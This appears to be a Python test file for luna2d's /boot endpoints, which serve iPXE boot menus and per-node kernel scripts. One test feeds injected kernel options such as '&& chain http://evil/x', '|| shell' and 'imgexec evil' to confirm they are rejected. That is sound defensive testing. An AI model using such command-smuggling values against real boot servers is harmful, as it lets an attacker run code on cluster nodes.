"""The iPXE scripts under /boot through the whole HTTP stack (StubTreq): the
full, short and disk menus, the spec's template table, a known MAC's kernel,
initrd and ``luna.*`` arguments, the discovery menu for an unknown MAC,
manual boots that give a node the MAC it booted with, and that none of it
needs a token or reveals a secret."""

from __future__ import annotations

from typing import Any

from twisted.trial import unittest

from luna2d.store.store import Store
from tests.boot.support import INITRD, KERNEL, MAC, BootAPI
from tests.support import env, load_store, result_of

BASE = "http://127.0.0.1:80"


def spec_args(
    node: str = "node001", ip: str = "10.141.0.1", mac: str = MAC, options: str = ""
) -> str:
    """The spec's imgargs line for a node of the sample cluster."""
    return (
        f"imgargs kernel root=luna luna.bootproto=static luna.mac={mac} luna.ip={ip}/16 "
        f"luna.url={BASE} luna.node={node} luna.hostname={node}.cluster luna.service=0 {options} "
        "initrd=initrd.img"
    )


class MenuTests(unittest.TestCase):
    def setUp(self) -> None:
        self.api = BootAPI(self)

    def test_full_menu(self) -> None:
        """GET /boot without a token is the full iPXE menu: detection by MAC
        (the default after the timeout), a node by name, the local disk, a
        shell and reboot, with the controller's address as the request
        reached it."""
        body = self.api.script("/boot")
        self.assertIn(f"set luna-url {BASE}\n", body)
        self.assertIn("choose --timeout ${luna-menu-timeout} --default detect luna-choice", body)
        self.assertIn("chain --replace --autofree ${luna-url}/boot/search/mac/${netX/mac}", body)
        self.assertIn("${luna-url}/boot/manual/hostname/${luna-node}/${netX/mac}", body)
        for item in ("detect", "hostname", "localdisk", "shell", "reboot"):
            self.assertIn(f"\n:{item}\n", body)

    def test_short_and_disk(self) -> None:
        """/boot/short chains straight to the node's own script by MAC;
        /boot/disk leaves network boot for the local disk (sanboot on BIOS,
        exit to the firmware on UEFI)."""
        short = self.api.script("/boot/short")
        self.assertIn("chain --replace --autofree ${luna-url}/boot/search/mac/${netX/mac}", short)
        self.assertNotIn("choose", short)
        disk = self.api.script("/boot/disk")
        self.assertIn("sanboot --no-describe --drive 0x80", disk)
        self.assertIn("iseq ${platform} efi && goto efi", disk)
        self.assertIn("exit 1", disk)
        self.assertNotIn("imgfetch", disk)

    def test_template_table(self) -> None:
        """The spec's table, for a node /boot knows by its address: bootmenu
        off and netboot on gives the short script, bootmenu and netboot on
        the normal menu, netboot off the disk whatever bootmenu says; an
        unknown machine gets the normal menu."""
        self.assertIn("menu luna2d network boot", self.api.script("/boot"))  # unknown: row 4
        self.api.on_loopback("node001")
        cases = [
            (
                {"bootmenu": False, "netboot": True},
                "straight to this node's own boot script",
            ),  # row 1
            ({"bootmenu": True, "netboot": True}, "menu luna2d network boot"),  # row 2
            ({"bootmenu": False, "netboot": False}, "sanboot --no-describe"),  # row 3
            ({"bootmenu": True, "netboot": False}, "sanboot --no-describe"),  # row 3, any bootmenu
        ]
        for flags, expected in cases:
            self.api.update("group", "compute", flags)
            body = self.api.script("/boot")
            self.assertIn(expected, body, flags)

    def test_table_node_overrides_group(self) -> None:
        """The flags are the node's effective ones: a node's own bootmenu
        wins over its group's."""
        self.api.on_loopback("node001")
        self.api.update("group", "compute", {"bootmenu": False, "netboot": True})
        self.api.update("node", "node001", {"bootmenu": True})
        self.assertIn("menu luna2d network boot", self.api.script("/boot"))


class SearchTests(unittest.TestCase):
    def setUp(self) -> None:
        self.api = BootAPI(self)
        self.api.bootable()
        self.api.update("node", "node001", {"macaddr": MAC})

    def test_known_mac_as_in_the_spec(self) -> None:
        """A known MAC gets the spec's script: kernel and initrd fetched from
        /files under the names the osimage gives, and the luna.* arguments
        (static address with prefix, MAC, URL, node, FQDN, service flag) in
        the spec's order."""
        body = self.api.script(f"/boot/search/mac/{MAC}")
        lines = body.splitlines()
        self.assertIn(f"imgfetch --name kernel {BASE}/files/{KERNEL} || goto failed", lines)
        self.assertIn("imgload kernel || goto failed", lines)
        self.assertIn(spec_args(), lines)
        self.assertIn(f"imgfetch --name initrd.img {BASE}/files/{INITRD} || goto failed", lines)
        self.assertIn("imgexec kernel || goto failed", lines)
        order = [
            next(i for i, line in enumerate(lines) if line.startswith(word))
            for word in (
                "imgfetch --name kernel",
                "imgload",
                "imgargs",
                "imgfetch --name initrd",
                "imgexec",
            )
        ]
        self.assertEqual(order, sorted(order))

    def test_both_search_paths_and_mac_spellings(self) -> None:
        """/boot/search/<mac> (the spec's) and /boot/search/mac/<mac> give
        the same script, for the MAC in any case and with dashes."""
        expected = self.api.script(f"/boot/search/mac/{MAC}")
        for path in (
            f"/boot/search/{MAC}",
            f"/boot/search/{MAC.upper()}",
            f"/boot/search/mac/{MAC.replace(':', '-')}",
        ):
            self.assertEqual(self.api.script(path), expected, path)

    def test_kernel_options_service_domain(self) -> None:
        """The osimage's kernel options follow luna.service; a service node
        says luna.service=1; the FQDN uses the node's effective domain."""
        self.api.update("osimage", "compute", {"kerneloptions": "console=ttyS0 quiet"})
        self.api.update("node", "node001", {"service": True, "domain": "hpc.example"})
        body = self.api.script(f"/boot/search/mac/{MAC}")
        self.assertIn(
            " luna.hostname=node001.hpc.example luna.service=1 console=ttyS0 quiet "
            "initrd=initrd.img\n",
            body,
        )

    def test_kernel_options_cannot_chain_commands(self) -> None:
        """Kernel options land on iPXE's imgargs line, where ``||`` or
        ``&&`` would chain another command, a lone ``;`` end it and
        ``${...}`` expand a setting: such options, or a line break, are 400
        naming the field; options stored before this rule (written to the
        database directly) give the noboot script instead of the imgargs line."""
        for bad in (
            "console=ttyS0 || shell",
            "quiet && chain http://evil/x",
            "a ; shell",
            "x=${net0/ip}",
            "console=ttyS0\nimgexec evil",
        ):
            code, body = self.api.post(
                "/config/osimage/compute", env("osimage", "compute", {"kerneloptions": bad})
            )
            self.assertEqual(code, 400, bad)
            self.assertIn("kerneloptions", body["message"])
        self.api.update("osimage", "compute", {"kernopts": "a;b console=tty0"})

        def smuggle(tx: Any) -> None:
            image = tx.edit(tx.get("osimage", "compute"))
            image.data["kerneloptions"] = "quiet || shell"

        result_of(self.api.store.write(smuggle))
        body = self.api.script(f"/boot/search/mac/{MAC}")
        self.assertFalse(any(line.startswith("imgargs") for line in body.splitlines()))
        self.assertIn("kerneloptions of osimage compute hold ||", body)
        self.assertNotIn("|| shell", body)

    def test_node_without_address_boots_by_dhcp(self) -> None:
        """A node whose provisioning interface has no address boots with
        luna.bootproto=dhcp and no luna.ip."""
        self.api.update(
            "node",
            "node001",
            {
                "provision_interface": "eth9",
                "interfaces": [{"interface": "eth9", "macaddress": "02:00:00:00:00:09"}],
            },
        )
        body = self.api.script("/boot/search/mac/02:00:00:00:00:09")
        self.assertIn("luna.bootproto=dhcp luna.mac=02:00:00:00:00:09 luna.url=", body)
        self.assertNotIn("luna.ip=", body)

    def test_osimage_tag_files(self) -> None:
        """A node on an osimage tag boots the tag's kernel and initrd."""
        code, _ = self.api.post(
            "/config/osimage/compute/tag", {"config": {"osimage": {"compute": {"tag": "v1"}}}}
        )
        self.assertEqual(code, 204)  # issue 10: the spec and the CLI want 204
        self.api.update(
            "osimage", "compute", {"kernelfile": "new-vmlinuz", "initrdfile": "new-initrd"}
        )
        self.assertIn("/files/new-vmlinuz ", self.api.script(f"/boot/search/mac/{MAC}"))
        self.api.update("node", "node001", {"osimagetag": "v1"})
        body = self.api.script(f"/boot/search/mac/{MAC}")
        self.assertIn(f"/files/{KERNEL} ", body)
        self.assertIn(f"/files/{INITRD} ", body)

    def test_netboot_off_boots_disk(self) -> None:
        """A known node with netboot off is sent to its local disk."""
        self.api.update("node", "node001", {"netboot": False})
        body = self.api.script(f"/boot/search/mac/{MAC}")
        self.assertIn("sanboot --no-describe --drive 0x80", body)
        self.assertIn("node node001", body)

    def test_no_kernel_explains(self) -> None:
        """An osimage without kernel or initrd gives a script that says why
        the node cannot boot and asks again later, not a broken kernel line."""
        self.api.update("osimage", "compute", {"kernelfile": None})
        body = self.api.script(f"/boot/search/mac/{MAC}")
        self.assertIn("node001 cannot boot: osimage compute has no kernelfile", body)
        self.assertIn(f"chain --replace --autofree {BASE}/boot/search/mac/{MAC}", body)
        self.assertNotIn("imgfetch", body)

    def test_unknown_mac_discovery(self) -> None:
        """An unknown MAC gets the discovery menu, which by default names no
        node and no group (a stranger learns nothing): typing a name,
        detection again by default; a choice chains to the manual boot paths
        with this MAC."""
        body = self.api.script("/boot/search/mac/aa:bb:cc:dd:ee:ff")
        self.assertIn("menu luna2d: unknown machine aa:bb:cc:dd:ee:ff", body)
        for name in ("node001", "node002", "compute", MAC):
            self.assertNotIn(name, body)
        self.assertIn("item --key n name Type a node name", body)
        self.assertIn("--default detect luna-choice", body)
        self.assertIn(
            "chain --replace --autofree ${luna-url}/boot/manual/${luna-choice}/${luna-mac}", body
        )
        self.assertIn("set luna-mac aa:bb:cc:dd:ee:ff\n", body)
        self.assertNotIn("imgfetch", body)

    def test_discovery_names_when_the_cluster_allows(self) -> None:
        """With the cluster's discovery_names on, the menu lists every node
        (whether it has a MAC, never the MAC itself) and every group with its
        count of nodes without a MAC."""
        code, body = self.api.post(
            "/config/cluster", {"config": {"cluster": {"discovery_names": True}}}
        )
        self.assertEqual(code, 204, body)
        body = self.api.script("/boot/search/mac/aa:bb:cc:dd:ee:ff")
        self.assertIn("item hostname/node001 node001 (has a MAC) [compute]", body)
        self.assertIn("item hostname/node002 node002 (no MAC yet) [compute]", body)
        self.assertIn("item group/compute compute (3 of 4 nodes without a MAC)", body)
        self.assertNotIn(MAC, body.replace("aa:bb:cc:dd:ee:ff", ""))

    def test_bad_mac_400(self) -> None:
        """A MAC that is not one is a 400 naming it, as JSON."""
        for path in (
            "/boot/search/mac/zz:bb:cc:dd:ee:ff",
            "/boot/search/nonsense",
            "/boot/manual/hostname/node001/12345",
        ):
            code, body, _ = self.api.text(path)
            self.assertEqual(code, 400, path)
            self.assertIn("mac", body["message"])

    def test_open_scripts_reveal_no_secret(self) -> None:
        """No open boot script carries the BMC password, a node secret or a
        token, whatever the MAC."""
        self.api.update("bmcsetup", "compute", {"password": "bmc-PASSWORD-xyz"})
        code, _ = self.api.post(
            "/config/secrets/node/node001",
            env(
                "secrets",
                "node",
                {
                    "node001": [
                        {
                            "secretname": "key",
                            "content": "SECRET-CONTENT",
                            "path": "/etc/key",
                        }
                    ]
                },
            ),
        )
        self.assertEqual(code, 201)
        for path in (
            "/boot",
            "/boot/short",
            "/boot/disk",
            f"/boot/search/mac/{MAC}",
            "/boot/search/aa:bb:cc:dd:ee:ff",
            "/boot/manual/hostname/node001",
        ):
            body = self.api.script(path)
            for secret in ("bmc-PASSWORD-xyz", "SECRET-CONTENT", "eyJ"):
                self.assertNotIn(secret, body, path)


class ManualTests(unittest.TestCase):
    def setUp(self) -> None:
        self.api = BootAPI(self)
        self.api.bootable()

    def reopened(self) -> Store:
        """The store as a restart would load it from the database file."""
        store = load_store(self.api.cfg, self.api.clock)
        self.addCleanup(store.pool.close)
        return store

    def test_hostname_without_mac_changes_nothing(self) -> None:
        """/boot/manual/hostname/<node> boots the node (iPXE fills in its own
        MAC) and writes nothing."""
        writes = self.api.store.writes
        body = self.api.script("/boot/manual/hostname/node002")
        self.assertIn(spec_args("node002", "10.141.0.2", "${netX/mac}"), body.splitlines())
        self.assertEqual(self.api.store.writes, writes)

    def test_hostname_with_mac_assigns_it(self) -> None:
        """/boot/manual/hostname/<node>/<mac> boots the node with that MAC
        and makes it the node's provisioning MAC in the store, durably,
        taking it away from the node that had it (the spec's example: the
        machine of node001 boots as node002, allowed by the group's
        mac_reassign)."""
        self.api.update("node", "node001", {"macaddr": MAC})
        self.api.update("group", "compute", {"mac_reassign": True})
        body = self.api.script(f"/boot/manual/hostname/node002/{MAC.upper()}")
        self.assertIn(spec_args("node002", "10.141.0.2"), body.splitlines())
        self.assertEqual(self.api.node("node002")["macaddr"], MAC)
        self.assertIsNone(self.api.node("node001")["macaddr"])
        # The next search by that MAC finds node002.
        self.assertIn("luna.node=node002 ", self.api.script(f"/boot/search/mac/{MAC}"))
        store = self.reopened()
        boot = {
            i["interface"]: i["macaddress"] for i in store.show("node", "node002")["interfaces"]
        }
        self.assertEqual(boot["BOOTIF"], MAC)
        self.assertIsNone(store.show("node", "node001")["macaddr"])

    def test_same_mac_again_writes_nothing(self) -> None:
        """A manual boot with the MAC the node has already is not a write."""
        self.api.script(f"/boot/manual/hostname/node003/{MAC}")
        writes = self.api.store.writes
        self.api.script(f"/boot/manual/hostname/node003/{MAC}")
        self.assertEqual(self.api.store.writes, writes)

    def test_unknown_node_or_group_404(self) -> None:
        """An unknown node or group is a 404 naming it."""
        for path, name in (
            (f"/boot/manual/hostname/node999/{MAC}", "node999"),
            ("/boot/manual/hostname/node999", "node999"),
            (f"/boot/manual/group/nogroup/{MAC}", "nogroup"),
            ("/boot/manual/hostname/NODE001", "NODE001"),
        ):
            code, body, _ = self.api.text(path)
            self.assertEqual(code, 404, path)
            self.assertIn(name, body["message"])

    def test_group_takes_first_node_without_mac(self) -> None:
        """/boot/manual/group/<group>/<mac> gives the MAC to the group's
        first node (by name) without one and boots it; the same MAC again
        boots that node again; a group with no node left is a 400."""
        self.api.update("node", "node001", {"macaddr": "02:00:00:00:00:01"})
        body = self.api.script(f"/boot/manual/group/compute/{MAC}")
        self.assertIn("luna.node=node002 ", body)
        self.assertEqual(self.api.node("node002")["macaddr"], MAC)
        self.assertIn("luna.node=node002 ", self.api.script(f"/boot/manual/group/compute/{MAC}"))
        self.assertIn(
            "luna.node=node003 ", self.api.script("/boot/manual/group/compute/02:00:00:00:00:03")
        )
        self.assertIn(
            "luna.node=node004 ", self.api.script("/boot/manual/group/compute/02:00:00:00:00:04")
        )
        code, body, _ = self.api.text("/boot/manual/group/compute/02:00:00:00:00:05")
        self.assertEqual(code, 400)
        self.assertIn("no node left without a MAC", body["message"])

    def test_group_moves_mac_from_another_group(self) -> None:
        """A MAC held by a node of another group moves to the chosen group's node."""
        self.api.update(
            "group",
            "other",
            {"interfaces": [{"interface": "BOOTIF", "network": "cluster"}], "mac_reassign": True},
        )
        self.api.update("node", "other01", {"group": "other", "macaddr": MAC})
        self.assertIn("luna.node=node001 ", self.api.script(f"/boot/manual/group/compute/{MAC}"))
        self.assertIsNone(self.api.node("other01")["macaddr"])
        self.assertEqual(self.api.node("node001")["macaddr"], MAC)
